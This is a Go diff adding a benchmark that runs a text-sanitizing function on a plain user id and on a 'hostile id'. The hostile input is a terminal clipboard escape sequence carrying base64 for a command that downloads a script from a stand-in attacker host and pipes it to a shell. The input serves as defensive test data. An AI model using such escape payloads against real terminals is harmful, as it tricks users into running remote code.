@@ -66,3 +66,17 @@ func FuzzText(f *testing.F) {
 		}
 	})
 }
+
+func BenchmarkText(b *testing.B) {
+	for _, c := range []struct{ name, s string }{
+		{"plain id", "CORP\\alice.smith@example.com"},
+		{"hostile id", "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\a"},
+	} {
+		b.Run(c.name, func(b *testing.B) {
+			b.ReportAllocs()
+			for i := 0; i < b.N; i++ {
+				Text(c.s)
+			}
+		})
+	}
+}
